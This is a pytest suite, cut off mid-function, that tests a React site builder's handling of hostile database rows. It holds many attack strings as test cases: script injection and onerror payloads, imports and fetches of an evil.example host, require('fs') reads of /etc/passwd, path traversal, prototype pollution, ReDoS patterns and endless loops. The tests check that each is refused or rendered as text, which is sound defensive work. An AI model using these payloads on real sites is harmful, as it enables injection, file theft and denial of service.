"""Hostile rows in whole builds: each sits on its own page beside a good one, and ends in a clear
error or in correct text; the good page's bytes are what they are without it."""
# ruff: noqa: E501  # a case reads best on one line

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import psycopg
import pytest
import tinycss2
from psycopg.types.json import Jsonb
from selectolax.lexbor import LexborHTMLParser, LexborNode

from robbieblocks.errors import Problem
from robbieblocks.messages import printable
from robbieblocks.prerender import Prerenderer
from tests.sites import NODE, Block, MakeSite, Site, island_ids, served, visit

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [pytest.mark.postgres]

GOOD = """import { useState } from "react";
export default function Good({ text }) {
  const [n, setN] = useState(0);
  return <button className="rounded bg-primary p-4" onClick={() => setN(n + 1)}>
    {text} {n} {typeof leak} {Object.keys({}).length} {[1, 2].map((x) => x + 1).join()}</button>;
}"""
SHOW = "export default ({ text }) => <p className='shown'>{String(text)}</p>;"
LIVE = """export default function Live({ text }) { const [t, setT] = useState(text);
  return <p className="shown" onClick={() => setT("")}>{t}</p>; }"""


@dataclass(frozen=True, kw_only=True)
class Case:
    """A row, or a few, on a page of its own. `error`: what its problem says; else `text` is shown.

    Where the machine decides which of several bounds is met, `|` stands between their errors.

    `where` is how the problem's place begins; `component` and `page` are fields of the rows.
    """

    name: str
    error: str = ""
    where: str = ""
    text: str = ""
    component: dict[str, Any] = field(default_factory=dict)
    block: dict[str, Any] = field(default_factory=dict)
    page: dict[str, Any] = field(default_factory=dict)
    edit: str = ""

    def store(self, site: Site, number: int) -> None:
        key = self.page_key(number)
        row = {"key": f"hostile-{number}", "code": SHOW, **self.component}
        site.component(**row)
        page = {"key": key, "route": f"/{key}/", **self.page}
        site.page(page.pop("key"), Block(component=row["key"], **self.block), **page)
        if self.edit:
            site.sql(self.edit.replace("<component>", f"'{row['key']}'"))

    def page_key(self, number: int) -> str:
        return str(self.page.get("key", f"case-{number}"))


def code(name: str, source: str, error: str = "", **more: Any) -> Case:
    """A hostile component."""
    component = {"code": source, **more.pop("component", {})}
    where = "component hostile-" if error else ""
    return Case(name=name, component=component, error=error, where=where, **more)


def body(name: str, statements: str, error: str = "", **more: Any) -> Case:
    """A component whose body does something."""
    return code(name, f"export default function X(props) {{ {statements} }}", error, **more)


MARKUP = {
    "script end": "</script><script>window.hacked = 1</script>",
    "cdata end": "]]>",
    "comment": "<!-- <script>window.hacked = 1",
    "braces": "{{ 7*7 }}{{",
    "template": "{% raw %}{{ con.fig }}{% if",
    "attribute": "\"'`><img src=x onerror=window.hacked=1>",
    "entity": "&lt;b&gt;&amp;&#60;&nbsp",
    "separators": "\u2028 \u2029 \u202e\ufeff end",
    "style end": "</style><style>body{display:none}</style>",
    "title end": "</title></head><body onload=window.hacked=1>",
}

CODE = [
    body("endless loop", "for (;;);", "CPU time"),
    code("endless loop on load", "while (true) {}\nexport default () => <b />;", "CPU time"),
    body(
        "catastrophic pattern", "return String(/^(a+)+$/.test('a'.repeat(90) + '!'));", "CPU time"
    ),
    body(
        "endless allocation",
        "const a = []; for (;;) a.push(new Array(1000).fill({}));",
        "memory|CPU time",
    ),
    body("endless text", "let s = 'x'; for (;;) s += s;", "string length"),
    body("stack overflow", "const f = () => f() + 1; return f();", "call stack"),
    body("endless components", "return <X />;", "CPU time"),
    body("huge output", "return <p>{'x'.repeat(5e6)}</p>;", "4000000"),
    body(
        "endless promises",
        "const f = () => Promise.resolve().then(f); f(); return 'x';",
        "promises",
    ),
    body("endless state", "const [n, setN] = useState(0); setN(n + 1); return n;", "without end"),
    body("object prototype", "Object.prototype.leak = 1; return 'x';", "extensible"),
    body("array prototype", "Array.prototype.map = () => ['evil']; return 'x';", "read only"),
    body("proto literal", "({}).__proto__.leak = 1; return 'x';", "extensible"),
    body(
        "constructor prototype", "props.constructor.prototype.leak = 1; return 'x';", "extensible"
    ),
    body(
        "define property",
        "Object.defineProperty(Object.prototype, 'leak', { value: 1 }); return 'x';",
        "extensible",
    ),
    body("global array", "globalThis.Array = 1; return 'x';", "read only"),
    body("global own", "globalThis.leak = 'evil'; return typeof leak;", text="undefined"),
    body("json", "JSON.parse = () => ({}); return 'x';", "read only"),
    body("react", "React.useState = () => [1]; return 'x';", "only a getter"),
    body("require by another name", "const r = require; return r('react-dom');", "require is not"),
    body(
        "require beside one's own",
        "const f = (require) => 1; const r = require; return r('react-dom');",
        "require_is_not_available_here is not defined",
    ),
    body("require of the global object", "return typeof globalThis.require;", text="undefined"),
    body("module", "return Object.keys(module.exports);", "module is not available"),
    body(
        "require", "return require('fs').readFileSync('/etc/passwd');", "require is not available"
    ),
    body("import()", "import('fs'); return 'x';", "import() is not available"),
    code(
        "import fs",
        "import fs from 'fs';\nexport default () => <p>{fs.x}</p>;",
        "the package fs is not in the toolchain",
    ),
    code(
        "import node:fs",
        "import fs from 'node:fs';\nexport default () => <p>{fs.x}</p>;",
        "is not loaded",
    ),
    code(
        "import url",
        "import x from 'https://evil.example/x.js';\nexport default () => <p>{x}</p>;",
        "is not loaded",
    ),
    code(
        "import file",
        "import x from '../../../../etc/passwd';\nexport default () => <p>{x}</p>;",
        "there is no file",
    ),
    code(
        "import data",
        "import x from 'data:text/javascript,export default 1';\nexport default () => <p>{x}</p>;",
        "is not loaded",
    ),
    code(
        "import runtime",
        "import x from '@robbieblocks/-runtime';\nexport default () => <p>{x}</p>;",
        "no component -runtime",
    ),
    code(
        "import traversal",
        "import x from '@robbieblocks/../../x';\nexport default () => <p>{x}</p>;",
        "no component",
    ),
    code("export from", "export * from 'fs';\nexport default () => <b />;", "not in the toolchain"),
    code("pragma", "/** @jsxImportSource preact */\nexport default () => <b />;", "preact"),
    body("fetch", "fetch('https://evil.example'); return 'x';", "prerendered"),
    body("process", "return process.env.HOME;", "process is not defined"),
    body("eval", "return eval('1');", "Code generation"),
    body("new Function", "return new Function('return this')();", "Code generation"),
    body("constructor", "return (() => 1).constructor('return this')();", "Code generation"),
    body(
        "wasm", "return typeof WebAssembly + typeof SharedArrayBuffer;", text="undefinedundefined"
    ),
    body("timer", "setTimeout(() => 1); return 'x';", "prerendered"),
    body("document", "return document.cookie;", "cookie"),
    body("throw null", "throw null;", "null"),
    body("throw trap", "throw new Proxy({}, { get() { throw 1; } });", "it threw 1"),
    body("object child", "return { a: 1 };", "an object can't be shown"),
    code("async", "export default async function X() { return <b />; }", "async"),
    code("no component", "export default 5;", "not a component"),
    code("empty", "", "no component was found"),
    code("blank", "  \n\t\n", "no component was found"),
    code("prose", "hello, this is not code", "Expected"),
    code("html", "<!doctype html><html><body>x</body></html>", "Expected"),
    code("syntax", "export default () => <div><p></div>;", "closing"),
    code("python", "def main():\n    print('x')", "Expected"),
    code("json text", '{"a": 1}', "no component was found"),
    code("two siblings", "<p>1</p>\n<p>2</p>", "several JSX elements"),
    code("module.exports", "module.exports = () => <b />;", "module is not available"),
    code("two components", "const A = () => <b />;\nconst B = () => <i />;", "several components"),
    code("two defaults", "export default () => <b />;\nexport default () => <i />;", "default"),
    code("very long", "const x = '" + "x" * 1_000_001 + "';", "1,000,000"),
    code("deep nesting", "export default () => " + "(" * 500 + "1" + ")" * 500 + ";", text="1"),
    code(
        "deeper nesting",
        "export default () => " + "[" * 100_000 + "]" * 100_000 + ";",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep elements",
        "export default () => " + "<i>" * 60_000 + "</i>" * 60_000 + ";",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep operators",
        "export default () => " + "!" * 300_000 + "1;",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep and broken",
        "export default () => " + "{[(" * 200_000,
        "nests deeper than 5,000 levels",
    ),
    code(
        "doubles when it is compiled",
        f'enum E {{ v0 = "{"x" * 16}",'
        + ",".join(f"v{n}=v{n - 1}+v{n - 1}" for n in range(1, 36))
        + "}\nexport default () => E.v35;",
        "could not compile",
    ),
    *(
        code(
            f"source map {number}",
            f"{SHOW}\n{comment}",
            text="ok",
            block={"props": {"text": "ok"}},
        )
        for number, comment in enumerate(
            [
                "//# sourceMappingURL=/dev/zero",
                "//@ sourceMappingURL=/etc/passwd",
                "/*# sourceMappingURL=/dev/stdin */",
                "/*@ sourceMappingURL=data:application/json,{ */",
            ]
        )
    ),
    code("a flood of calls", "f();" * 20_000 + "export default () => 'x';", "f is not defined"),
    code(
        "a flood of import()",
        "import('fs');" * 5_000 + "export default () => 'x';",
        "import() is not available",
    ),
    code(
        "bom",
        "\ufeffexport default ({ text }) => <p className='shown'>{text}</p>;",
        text="ok",
        block={"props": {"text": "ok"}},
    ),
    code("crlf", SHOW.replace(" ", "\r\n", 1), text="ok", block={"props": {"text": "ok"}}),
    code(
        "unicode names",
        "const Ärger = ({ text }) => <p className='shown'>{text}</p>;\nexport default Ärger;",
        text="ok",
        block={"props": {"text": "ok"}},
    ),
    body(
        "raw script",
        "return <p dangerouslySetInnerHTML={{ __html: '<script>window.hacked = 1</script>' }} />;",
        "<script>",
    ),
    body(
        "raw handler",
        "return <p dangerouslySetInnerHTML={{ __html: '<img src=x onerror=1>' }} />;",
        "onerror",
    ),
    body(
        "raw end tags",
        "return <p dangerouslySetInnerHTML={{ __html: '</p></div></main>' }} />;",
        "leaves the block",
    ),
    body(
        "raw comment",
        "return <p dangerouslySetInnerHTML={{ __html: '<!-- open' }} />;",
        "leaves the block",
    ),
    body("plaintext", "return <plaintext>x</plaintext>;", "leaves the block"),
    body("script element", "return <script>{'window.hacked = 1'}</script>;", "<script>"),
    body("base element", "return <base href='https://evil.example' />;", "<base>"),
    body(
        "meta refresh",
        "return <meta httpEquiv='refresh' content='0;url=https://evil.example' />;",
        "<meta>",
    ),
    body(
        "link element",
        "return <link rel='stylesheet' href='https://evil.example/x.css' precedence='x' />;",
        "<link>",
    ),
    body("srcdoc", "return <iframe srcDoc='<script>1</script>' title='x' />;", "srcdoc"),
    body("object element", "return <object data='x' />;", "<object>"),
    body("islands id", "return <p id='rb-islands'>[]</p>;", "rb-islands"),
    body("block id", "return <p id='b1'>x</p>;", "b1"),
    body("data-rb", "return <p data-rb-component='good'>x</p>;", "data-rb-component"),
    body("javascript url", "return <a href='javascript:window.hacked=1'>x</a>;", text="x"),
]

NAMES = {
    "traversal": ("../../etc", "that names don't have"),
    "slash": ("a/b", "that names don't have"),
    "look-alike": ("r\u043ebbie", "CYRILLIC SMALL LETTER O"),
    "rtl mark": ("rob\u202eeibb", "RIGHT-TO-LEFT OVERRIDE"),
    "zero width": ("rob\u200bbie", "ZERO WIDTH SPACE"),
    "quote": ('a"><script>', "that names don't have"),
    "newline": ("a\nb", "U+000A"),
    "empty": ("", "is empty"),
    "capitals": ("Robbie", "capital letters"),
    "braces": ("{{name}}", "that names don't have"),
    "template": ("{% x %}", "that names don't have"),
    "comment": ("<!--", "that names don't have"),
    "cdata": ("]]>", "that names don't have"),
    "backslash": ("a\\..\\b", "that names don't have"),
}
ROUTES = {
    "traversal": ("/a/../../x", "`..`"),
    "scheme": ("https://evil.example/", "a scheme or a host"),
    "host": ("//evil.example/", "a scheme or a host"),
    "javascript": ("javascript:alert(1)", "a scheme or a host"),
    "query": ("/a?b", "a query"),
    "fragment": ("/a#b", "a fragment"),
    "encoded": ("/%2e%2e/x", "percent-encoding"),
    "script": ("/</script><script>", "U+003C"),
    "braces": ("/{{", "U+007B"),
    "template": ("/{%", "percent-encoding"),
    "comment": ("/<!--", "U+003C"),
    "cdata": ("/]]>", "U+005D RIGHT SQUARE BRACKET"),
    "reserved": ("/_rb/x", "kept for files"),
    "hidden": ("/.git/config", "a dot"),
    "newline": ("/a\nb", "U+000A"),
    "rtl mark": ("/a\u202eb", "RIGHT-TO-LEFT"),
    "look-alike": ("/pl\u0430y", "mixes Cyrillic"),
    "empty": ("", "empty"),
}


def in_columns(name: str, markup: str) -> Iterator[Case]:
    """A markup in each text column of pages, components and page blocks."""
    shown = {"props": {"text": markup}}
    yield Case(name=f"page_name: {name}", page={"name": markup})
    yield Case(name=f"meta_title: {name}", page={"title": markup})
    yield Case(name=f"meta_description: {name}", page={"description": markup})
    yield Case(
        name=f"metadata: {name}",
        page={
            "metadata": {
                "og_title": markup,
                "og_image_alt": markup,
                "lang": markup,
                "dir": markup,
                "robots": markup,
                "json_ld": {"name": markup},
                markup: markup,
            }
        },
    )
    yield Case(
        name=f"layout_template: {name}",
        page={"layout": markup[:50]},
        error="unknown layout",
        where="page case-",
    )
    yield Case(name=f"props: {name}", block=shown, text=markup)
    yield Case(name=f"props, live: {name}", component={"code": LIVE}, block=shown, text=markup)
    yield Case(
        name=f"zone: {name}",
        block={"zone": markup[:50]},
        error="unknown zone",
        where="component hostile-",
    )
    yield Case(
        name=f"conditions: {name}",
        block={"conditions": {markup: 1}},
        error="unknown condition operator",
        where="component hostile-",
    )
    yield Case(
        name=f"query: {name}",
        block={"conditions": {"not": {"query": {markup: markup}}}, **shown},
        text=markup,
    )
    yield Case(name=f"component_name: {name}", component={"name": markup}, block=shown, text=markup)
    yield Case(
        name=f"react_code: {name}",
        component={
            "code": f"export default () => <p className='shown'>{{{json.dumps(markup)}}}</p>;"
        },
        text=markup,
    )
    yield Case(
        name=f"css_styles: {name}",
        component={
            "css": f".shown::after {{ content: {json.dumps(markup.replace('</style', '</s'))}; }}"
        },
        block=shown,
        text=markup,
    )
    yield Case(
        name=f"props_schema: {name}",
        component={
            "schema": {
                "text": {
                    "type": "string",
                    "title": markup,
                    "description": markup,
                    "default": markup,
                }
            }
        },
        text=markup,
    )
    yield Case(
        name=f"dependencies: {name}",
        component={"dependencies": [markup]},
        error="dependencies",
        where="component hostile-",
    )
    yield Case(
        name=f"component metadata: {name}",
        component={"metadata": {"hydrate": markup}},
        error="expected when to hydrate",
        where="component hostile-",
    )


OTHERS = [
    *(
        Case(name=f"component_key: {name}", component={"key": key}, error=said, where="component ")
        for name, (key, said) in NAMES.items()
    ),
    *(
        Case(
            name=f"page_key: {name}",
            page={"key": key, "route": f"/named-{n}/"},
            error=said,
            where="page ",
        )
        for n, (name, (key, said)) in enumerate(NAMES.items())
    ),
    *(
        Case(name=f"page_route: {name}", page={"route": route}, error=said, where="page case-")
        for name, (route, said) in ROUTES.items()
    ),
    Case(
        name="css @import",
        component={"css": "@import 'https://evil.example/x.css';"},
        error="@import is not available",
        where="component hostile-",
    ),
    Case(
        name="css elsewhere",
        component={"css": ".a { background: url(https://evil.example/x) }"},
        error="is elsewhere",
        where="component hostile-",
    ),
    Case(
        name="css closes",
        component={"css": ".a { color: red } }\nbody { display: none }"},
        error="}",
        where="component hostile-",
    ),
    Case(
        name="css open",
        component={"css": ".a { color: red"},
        error="never closed",
        where="component hostile-",
    ),
    Case(
        name="css comment",
        component={"css": "/* open"},
        error="never closed",
        where="component hostile-",
    ),
    Case(
        name="css escapes its scope",
        component={
            "css": ":root, html, body, .rb-block, * { display: none } @layer node { p { color: red } }"
        },
        block={"props": {"text": "ok"}},
        text="ok",
    ),
    Case(
        name="css font",
        component={"css": "@font-face { font-family: x; src: url(//evil.example/f) }"},
        error="@font-face is not available",
        where="component hostile-",
    ),
    Case(
        name="css charset",
        component={"css": "@charset 'utf-7';"},
        error="@charset",
        where="component hostile-",
    ),
    Case(
        name="remote $ref",
        component={"schema": {"text": {"$ref": "http://127.0.0.1:9/x.json"}}},
        error="none is fetched",
        where="component hostile-",
    ),
    Case(
        name="file $ref",
        component={"schema": {"text": {"$ref": "file:///etc/passwd"}}},
        error="none is fetched",
        where="component hostile-",
    ),
    Case(
        name="catastrophic schema",
        component={"schema": {"text": {"type": "string", "pattern": "^(a+)+$"}}},
        block={"props": {"text": "a" * 60_000 + "!"}},
        error="/text",
        where="component hostile-",
    ),
    Case(
        name="look-behind schema",
        component={"schema": {"text": {"pattern": "(?<=a)b"}}},
        error="looks around or back",
        where="component hostile-",
    ),
    Case(
        name="invalid schema",
        component={"schema": {"text": {"type": "strng"}}},
        error="/text/type",
        where="component hostile-",
    ),
    Case(
        name="schema is a list",
        component={"schema": []},
        error="neither a JSON Schema",
        where="component hostile-",
    ),
    Case(
        name="wrong props",
        component={"schema": {"text": {"type": "integer"}}},
        block={"props": {"text": "x"}},
        error='"x" is not of type "integer"',
        where="component hostile-",
    ),
    Case(
        name="props are a list",
        block={"props": []},
        error="props are not an object",
        where="component hostile-",
    ),
    Case(
        name="prototype in props",
        block={"props": {"__proto__": {"leak": 1}}},
        error="prototype",
        where="component hostile-",
    ),
    Case(
        name="constructor in props",
        block={"props": {"constructor": {"prototype": {"leak": 1}}, "text": "ok"}},
        text="ok",
    ),
    Case(
        name="a megabyte of props",
        block={"props": {"text": "<&\u2028" * 200_000}},
        text="<&\u2028" * 200_000,
    ),
    Case(
        name="more than a megabyte",
        block={"props": {"text": "x" * 1_100_000}},
        error="bytes as JSON",
        where="component hostile-",
    ),
    Case(
        name="deep props",
        block={"props": {"text": json.loads("[" * 80 + "]" * 80)}},
        error="64 levels",
        where="component hostile-",
    ),
    Case(
        name="number out of range",
        edit="UPDATE robbieblocks_page_blocks b SET props = '{\"text\": 1e400}' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>",
        text="1" + "0" * 400,
    ),
    Case(
        name="integer out of range",
        edit="UPDATE robbieblocks_page_blocks b SET props = '{\"text\": 123456789012345678901234567890}' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>",
        error="beyond what a browser's numbers hold",
        where="component hostile-",
    ),
    Case(
        name="a surrogate pair",
        edit='UPDATE robbieblocks_page_blocks b SET props = \'{"text": "\\ud83d\\ude00"}\' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>',
        text="\U0001f600",
    ),
    Case(
        name="huge viewport",
        block={"conditions": {"viewport": {"min": 10**300}}},
        error="a width in CSS px",
        where="component hostile-",
    ),
    Case(
        name="unknown operator",
        block={"conditions": {"$where": "1"}},
        error="unknown condition operator",
        where="component hostile-",
    ),
    Case(
        name="bad instant",
        block={"conditions": {"from": "9999-99-99T00:00:00Z"}},
        error="RFC 3339",
        where="component hostile-",
    ),
    Case(
        name="metadata is a list",
        page={"metadata": [1]},
        error="metadata is not an object",
        where="page case-",
    ),
    Case(
        name="unpublished",
        component={"published": False},
        error="not published",
        where="page case-",
    ),
    Case(
        name="node route of another page",
        page={"route": "/good-too/"},
        error="also that of page",
        where="page ",
    ),
]
CASES = [
    *CODE,
    *OTHERS,
    *(case for name, text in MARKUP.items() for case in in_columns(name, text)),
]
# What runs into a bound is tried last, as that ends the isolate that others are rendered in.
NUMBERED = list(enumerate(CASES))


@dataclass(frozen=True)
class Built:
    site: Site
    before: dict[str, bytes]
    after: dict[str, bytes]
    assets: dict[str, bytes]
    problems: tuple[Problem, ...]


@pytest.fixture(scope="module")
def built(make_site: MakeSite) -> Iterator[Built]:
    """The good page alone, then all the hostile ones beside it: two builds."""
    site = make_site()
    context = site.builder.context
    context.prerenderer.close()
    with Prerenderer(cpu_s=1.0, heap_bytes=96 << 20) as impatient:
        context.prerenderer = impatient
        site.component("good", GOOD, css=".good { color: var(--color-primary) }")
        site.page("good", Block(component="good", props={"text": "Good"}), title="A good page")
        site.build()
        assert site.problems(warnings=True) == []
        files = site.builder.files(NODE, "play")
        before = {"good/index.html": files["good/index.html"]}
        site.page("good-too", Block(component="good"), route="/good-too/")
        for number, case in NUMBERED:
            case.store(site, number)
        report = site.build()
        after = site.builder.files(NODE, "play")
        folder = site.builder.settings.site_root / NODE / "assets"
        assets = {path.name: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
        yield Built(site, before, after, assets, report.problems)


def test_the_corpus_is_large() -> None:
    """There are at least 150 cases, each with a name of its own."""
    assert len({case.name for case in CASES}) == len(CASES) >= 150


def test_the_good_page_is_untouched(built: Built) -> None:
    """With all the hostile rows beside it, the good page's bytes are exactly what they were."""
    assert built.after["good/index.html"] == built.before["good/index.html"]


@pytest.mark.parametrize(("number", "case"), NUMBERED, ids=[f"{n}: {c.name}" for n, c in NUMBERED])
def test_a_hostile_row(built: Built, number: int, case: Case) -> None:
    """It ends in an error that says what is wrong and where, or in a page that shows it as text."""
    key = case.page_key(number)
    route = case.page.get("route", f"/{key}/")
    path = f"{route.strip('/')}/index.html"
    names = {printable(key), f"hostile-{number}", printable(case.component.get("key", key))}
    own = [
        each
        for each in built.problems
        if {each.key, each.page} & names or f"page {key}," in each.what
    ]
    errors = [problem for problem in own if problem.severity == "error"]
    if case.error:
        said = "\n".join(map(str, errors))
        assert any(words in said for words in case.error.split("|")), said or "no error"
        assert any(problem.where.startswith(case.where) for problem in errors)
        assert all(problem.remedy for problem in errors), said
        assert all(line.isprintable() for line in said.splitlines())
        # A route that two pages want is the other's.
        assert path not in built.after or case.page.get("route") == "/good-too/"
        return
    assert not errors, "\n".join(map(str, errors))
    document = LexborHTMLParser(built.after[path].decode())
    if case.text:
        assert _text(document, ".shown, main .rb-block") == case.text
    _nothing_of_the_rows_runs(document)


RUNS = {"", "module", "text/javascript"}


def _nothing_of_the_rows_runs(document: LexborHTMLParser) -> None:
    """The page has the elements that every page has, in their places, and no script but its own."""
    head, main = document.head, document.body
    assert head is not None
    assert main is not None
    assert [node.tag for node in document.css("body > *")][:2] == ["a", "div"]
    assert {node.tag for node in head.iter()} <= {"meta", "title", "script", "link", "style"}
    for script in document.css("script"):
        kind = script.attributes.get("type") or ""
        source = script.attributes.get("src")
        if kind in RUNS and source is None:
            assert "hacked" not in script.text()
        assert source is None or source.startswith("/_rb/")
    for node in document.css("*"):
        assert not [name for name in node.attributes if name.startswith("on")]
    assert len(document.css("title")) == 1
    assert len(document.css("main")) == 1


def test_titles_and_descriptions_are_text(built: Built) -> None:
    """What looks like markup in a title, a description or metadata is in the page as it was stored."""
    for number, case in NUMBERED:
        if case.error or not case.page or "route" in case.page:
            continue
        document = LexborHTMLParser(built.after[f"case-{number}/index.html"].decode())
        title, description = _text(document, "title"), _meta(document, "name=description")
        stored = case.page.get("title") or case.page.get("name")
        if stored:
            assert title == " ".join(stored.split())
            assert _meta(document, "property='og:title'") == " ".join(stored.split())
        if "description" in case.page:
            assert description == " ".join(case.page["description"].split())
        if "metadata" in case.page:
            given = case.page["metadata"]
            assert _meta(document, "property='og:title'") == given["og_title"]
            assert _meta(document, "name=robots") == given["robots"]
            assert document.root is not None
            assert document.root.attributes["lang"] == "en"
            text = _text(document, "script[type='application/ld+json']")
            assert json.loads(text) == given["json_ld"]


def _text(document: LexborHTMLParser, selector: str) -> str:
    found: LexborNode | None = document.css_first(selector)
    assert found is not None, f"there is no {selector}"
    return found.text()


def _meta(document: LexborHTMLParser, selector: str) -> str | None:
    found: LexborNode | None = document.css_first(f"meta[{selector}]")
    return None if found is None else found.attributes["content"]


def test_islands_carry_hostile_props_whole(built: Built) -> None:
    """Props of live blocks stand in the page's JSON as they were stored."""
    for number, case in NUMBERED:
        if case.name.startswith("props, live"):
            islands = island_ids(built.after[f"case-{number}/index.html"].decode())
            assert islands["b1"]["props"] == case.block["props"]


def test_scoped_styles_stay_in_their_blocks(built: Built) -> None:
    """Every rule of a hostile component's stylesheet names its own block."""
    number = next(n for n, case in NUMBERED if case.name == "css escapes its scope")
    (sheet,) = [
        text.decode()
        for name, text in built.assets.items()
        if name.startswith(f"hostile-{number}-") and name.endswith(".css")
    ]
    assert "display:none" in sheet.replace(" ", "")
    for rule in tinycss2.parse_stylesheet(sheet, skip_whitespace=True, skip_comments=True):
        assert rule.type == "at-rule"
        assert rule.lower_at_keyword == "layer"
    own = f"[data-rb-component~=hostile-{number}]"
    preludes = re.findall(r"([^{}]+)\{[^{}]*\}", sheet)
    assert len(preludes) == 2
    assert all(own in each for prelude in preludes for each in prelude.split(","))


@pytest.mark.browser
def test_hostile_pages_are_silent_and_run_nothing(built: Built, page: Page) -> None:
    """In Chromium the pages show their texts, say nothing in the console, and no script of a row ran."""
    live = [
        n
        for n, case in NUMBERED
        if not case.error
        and case.name.startswith(("props, live", "meta_title", "metadata", "query", "css_styles"))
    ]
    assert len(live) == 5 * len(MARKUP)
    with served(built.site.builder.settings.site_root, NODE) as address:
        for number in live:
            visit(page, f"{address}/case-{number}/")
            assert page.evaluate("window.hacked") is None
            case = CASES[number]
            if case.text:
                assert page.locator(".shown").evaluate("e => e.textContent") == case.text
        visit(page, f"{address}/good/")
        page.get_by_role("button").click()
        assert page.get_by_role("button").inner_text() == "Good 1 undefined 0 2,3"


REFUSED = {
    "NUL in a text": ("UPDATE robbieblocks_pages SET page_name = 'a' || chr(0)", "null character"),
    "NUL in JSON": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\u0000"}\'',
        "Unicode escape",
    ),
    "half a surrogate pair": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\ud800"}\'',
        "surrogate",
    ),
    "surrogates swapped": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\ude00\\ud83d"}\'',
        "surrogate",
    ),
    "not a number": (
        "UPDATE robbieblocks_pages SET metadata = '{\"a\": NaN}'",
        "invalid input syntax",
    ),
    "a key of 256 characters": (
        "UPDATE robbieblocks_pages SET page_key = repeat('a', 256)",
        "too long",
    ),
    "an app of 51 characters": (
        "UPDATE robbieblocks_pages SET app_namespace = repeat('a', 51)",
        "too long",
    ),
    "two blocks in one place": (
        "INSERT INTO robbieblocks_page_blocks (page_id, component_id, block_order, zone) SELECT page_id, component_id, block_order, zone FROM robbieblocks_page_blocks",
        "unique",
    ),
    "a block without its page": (
        "INSERT INTO robbieblocks_page_blocks (page_id, component_id, block_order, zone) SELECT gen_random_uuid(), component_id, 1, zone FROM robbieblocks_page_blocks LIMIT 1",
        "foreign key",
    ),
    "an order out of range": (
        "UPDATE robbieblocks_page_blocks SET block_order = 3000000000",
        "out of range",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_the_database_refuses(built: Built, name: str) -> None:
    """What Postgres can't hold never becomes a row."""
    query, said = REFUSED[name]
    with pytest.raises(psycopg.Error, match=said):
        built.site.sql(query)


NODES: list[tuple[str, dict[str, Any], str]] = [
    *((f"node_name: {name}", {"node_name": text}, "") for name, text in MARKUP.items()),
    *(
        (
            f"custom_css: {name}",
            {"custom_css": f"p::after {{ content: {json.dumps(text.replace('</style', '</s'))} }}"},
            "",
        )
        for name, text in MARKUP.items()
    ),
    *(
        (
            f"custom_scripts: {name}",
            {"custom_scripts": f"document.body.dataset.said = {json.dumps(text)};"},
            "",
        )
        for name, text in MARKUP.items()
    ),
    *(
        (f"style_overrides: {name}", {"style_overrides": {"color.primary": text}}, "color.primary")
        for name, text in MARKUP.items()
        if name not in ("cdata end", "separators", "entity")
    ),
    *(
        (f"override key: {name}", {"style_overrides": {text: "red"}}, "style_overrides")
        for name, text in MARKUP.items()
    ),
    *(
        (f"enabled_apps: {name}", {"enabled_apps": ["play", text[:50]]}, "enabled_apps")
        for name, text in MARKUP.items()
    ),
    ("css closes its layer", {"custom_css": "} body { display: none }"}, "custom_css"),
    ("css @import", {"custom_css": "@import '//evil.example/x.css';"}, "@import"),
    (
        "css elsewhere",
        {"custom_css": "p { background: url(https://evil.example) }"},
        "leads elsewhere",
    ),
    ("css end of style", {"custom_css": "/* </style> */"}, "ends markup"),
    (
        "value closes its rule",
        {"style_overrides": {"color.primary": "red; } body { display: none"}},
        "holds `;`",
    ),
    ("unknown theme", {"style_overrides": {"theme": "blue"}}, "unknown theme"),
    ("overrides are a list", {"style_overrides": [1]}, "style_overrides"),
]


def test_hostile_nodes_harm_only_themselves(built: Built) -> None:
    """Each hostile node row ends in an error that names the node, or in pages with its texts as
    text; the good node's pages keep their bytes."""
    site = built.site
    site.sql("UPDATE robbieblocks_pages SET status = 'draft' WHERE page_key <> 'good'")
    for number, (_, row, _) in enumerate(NODES):
        given = {
            "node_name": "x",
            "style_overrides": {},
            "enabled_apps": ["play"],
            "custom_css": None,
            "custom_scripts": None,
            **row,
        }
        site.sql(
            "INSERT INTO robbieblocks_node_branding (node_id, node_name, style_overrides, enabled_apps, custom_css, custom_scripts) VALUES (%s, %s, %s, %s, %s, %s)",
            *(f"hostile-{number}", given["node_name"], Jsonb(given["style_overrides"])),
            *(given["enabled_apps"], given["custom_css"], given["custom_scripts"]),
        )
    nodes = [f"hostile-{number}" for number in range(len(NODES))]
    report = site.build(NODE, *nodes)
    assert site.file("/good/").read_bytes() == built.before["good/index.html"]
    for number, (name, row, error) in enumerate(NODES):
        node = nodes[number]
        said = "\n".join(str(p) for p in report.problems if p.key == node and p.severity == "error")
        if error:
            assert error in said, name
            assert not site.file("/good/", node).exists()
        else:
            assert said == "", name
            document = LexborHTMLParser(site.file("/good/", node).read_text())
            _nothing_of_the_rows_runs(document)
            if "node_name" in row:
                found = _meta(document, "property='og:site_name'")
                assert found == row["node_name"] or found is None


TOKENS = {
    "closes its rule": ("hostile.token", "red; } body { display: none", "holds `;`"),
    "script end": ("hostile.token", "</script>", "holds `<`"),
    "cdata end": ("hostile.token", "]]>", ""),
    "comment": ("hostile.token", "<!--", "holds `<!--`"),
    "braces": ("hostile.token", "{{", ""),
    "template": ("hostile.token", "{% x %}", ""),
    "elsewhere": ("hostile.token", "url(https://evil.example/x)", "leads elsewhere"),
    "import": ("hostile.token", "@import 'x'", "@import"),
    "key closes": ("x: red} body{", "red", "letters and digits"),
    "key script": ("</script>", "red", "letters and digits"),
    "key look-alike": ("c\u043elor", "red", "CYRILLIC"),
    "empty": ("hostile.token", "", "empty"),
}


@pytest.mark.parametrize("name", TOKENS)
def test_a_hostile_token_changes_no_page(built: Built, name: str) -> None:
    """A token that can't be a CSS value is an error on the token; what is live stays, to the byte."""
    key, value, error = TOKENS[name]
    site = built.site
    live = site.file("/good/").read_bytes()
    site.sql(
